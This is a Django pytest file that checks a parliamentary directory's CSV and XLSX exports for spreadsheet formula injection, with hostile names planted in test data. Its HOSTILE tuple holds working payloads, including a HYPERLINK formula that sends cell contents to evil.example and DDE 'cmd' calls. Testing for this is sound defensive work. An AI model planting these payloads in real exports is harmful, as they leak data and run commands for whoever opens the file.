"""Formula injection: every cell of every export (URL or management command) is safe to open in a
spreadsheet program, with hostile names planted in the data."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.cache import cache
from django.core.management import call_command, get_commands
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import Workbook, load_workbook

from maslikhat.core.exports import FORMULA_START, export_cell, export_row, xlsx_append
from maslikhat.directory.choices import OrganizationKind
from maslikhat.directory.models import Organization
from tests.factories import PersonFactory

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

# Exports that are not spreadsheets (JSON documents, PDF): formulas mean nothing there.
NOT_SPREADSHEET_URLS = {"api:export_popolo", "scorecard:pdf"}
NOT_SPREADSHEET_COMMANDS = {"export_popolo", "export_openapi_schema"}  # JSON documents
# Exports whose data only their app's world holds: checked with hostile rows by that app's tests.
CHECKED_IN_THEIR_APP = {
    "proceedings:register_csv": "tests/proceedings/test_pages.py::test_register_csv_is_formula_safe",
    "participation:results_csv": "tests/participation/test_views.py::test_results_csv_is_formula_safe",
}


def _export_url_names() -> set[str]:
    def walk(patterns: list[Any], ns: str) -> Iterator[tuple[str, str]]:
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns, f"{ns}{p.namespace}:" if p.namespace else ns)
            elif isinstance(p, URLPattern):
                yield f"{ns}{p.name or ''}", str(p.pattern)

    words = ("csv", "xls", "ods", "pdf", "export")
    return {
        name
        for name, pattern in walk(get_resolver().url_patterns, "")
        if any(w in (name + pattern).lower() for w in words)
    }


def _export_commands() -> set[str]:
    return {name for name in get_commands() if "export" in name}


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _scorecard_csv(client: Any, name: str) -> list[str]:
    r = client.get(reverse(name), {"period": "2025"})
    assert r.status_code == 200
    return _csv_cells(r.content.decode("utf-8-sig"))


def _scorecard_xlsx(client: Any, name: str) -> list[str]:
    r = client.get(reverse(name), {"period": "2025"})
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    cells: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def _export_csv_command(tmp_path: Path) -> list[str]:
    call_command("export_csv", str(tmp_path), stdout=io.StringIO())
    files = sorted(tmp_path.glob("*.csv"))
    assert [f.name for f in files] == [
        "areas.csv",
        "memberships.csv",
        "organizations.csv",
        "people.csv",
        "posts.csv",
    ]
    cells: list[str] = []
    for f in files:
        with f.open(encoding="utf-8", newline="") as fh:  # keep a CR inside a cell as written
            cells += _csv_cells(fh.read())
    return cells


URL_EXPORTS = {
    "scorecard:csv": _scorecard_csv,
    "api:scorecard_csv": _scorecard_csv,
    "scorecard:xlsx": _scorecard_xlsx,
}
COMMAND_EXPORTS = {"export_csv": _export_csv_command}


@pytest.fixture
def hostile_world(reference: dict[str, int]) -> Iterator[None]:
    """A regional maslikhat named with formulas in three languages, a person and a body whose
    contacts start with formulas."""
    cache.clear()
    body = Organization.objects.filter(kind=OrganizationKind.REGIONAL_MASLIKHAT).order_by("pk").first()
    assert body is not None
    body.name_en, body.name_ru, body.name_kk = HOSTILE[0], HOSTILE[1], HOSTILE[3]
    body.address = HOSTILE[2]
    body.phone = "+77172000000"
    body.save()
    PersonFactory(name_en=HOSTILE[4], name_ru=HOSTILE[5], name_kk=HOSTILE[2], sort_name=HOSTILE[0])
    yield
    cache.clear()


def _assert_safe(cells: list[str], where: str) -> None:
    dangerous = [c for c in cells if export_cell(c) != c]
    assert dangerous == [], where


def test_every_export_is_known_to_this_test() -> None:
    # given every URL whose name or pattern says export/csv/xlsx and every export command
    # then each is either checked below or declared not to be a spreadsheet
    assert _export_url_names() == set(URL_EXPORTS) | NOT_SPREADSHEET_URLS | set(CHECKED_IN_THEIR_APP)
    assert _export_commands() == set(COMMAND_EXPORTS) | NOT_SPREADSHEET_COMMANDS
    root = Path(__file__).resolve().parents[2]
    for where in CHECKED_IN_THEIR_APP.values():
        module, test = where.split("::")
        assert f"def {test}(" in (root / module).read_text(encoding="utf-8"), where


@pytest.mark.parametrize("name", sorted(URL_EXPORTS))
def test_url_export_cells_never_start_a_formula(hostile_world: None, client: Any, name: str) -> None:
    # when the export is downloaded (in English, the language of the hostile name_en); the URL is
    # reversed in English too, whatever language an earlier test in this worker left active
    from django.utils import translation

    client.cookies["django_language"] = "en"
    with translation.override("en"):
        cells = URL_EXPORTS[name](client, name)
    # then the hostile name is there, neutralised, and no cell starts a formula
    assert "'" + HOSTILE[0] in cells
    _assert_safe(cells, name)


def test_export_csv_command_cells_never_start_a_formula(hostile_world: None, tmp_path: Path) -> None:
    cells = COMMAND_EXPORTS["export_csv"](tmp_path)
    for value in HOSTILE:
        assert "'" + value in cells
    assert "+77172000000" in cells  # a phone number is a plain number: left as written
    _assert_safe(cells, "export_csv")


@pytest.mark.parametrize("value", HOSTILE)
def test_export_cell_neutralises_text_that_starts_a_formula(value: str) -> None:
    assert value.startswith(FORMULA_START)
    assert export_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Astana",
        "",
        " =1",
        "O'Brien",
        "-5",
        "+7",
        "-1.5",
        "+77011234567",
        -5,
        -1.5,
        Decimal("-2.5"),
        None,
        True,
    ],
)
def test_export_cell_leaves_harmless_values_alone(value: Any) -> None:
    assert export_cell(value) == value


def test_export_row_neutralises_each_cell() -> None:
    assert export_row(["=1+1", -3, "ok", None]) == ["'=1+1", -3, "ok", None]


def test_xlsx_append_writes_text_as_strings_and_numbers_as_numbers() -> None:
    # given a row with formula-like text, a negative number, a decimal, control characters
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    xlsx_append(ws, ["=1+1", -7, Decimal("-2.5"), "a\x00b\x1bc", None, "-4"])
    out = io.BytesIO()
    wb.save(out)
    # when the file is read back
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert back is not None
    cells = list(back[1])
    # then text is a string cell, numbers stay numbers, XML-illegal characters are gone
    assert [c.value for c in cells] == ["'=1+1", -7, -2.5, "abc", None, "-4"]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s", "n", "s"]
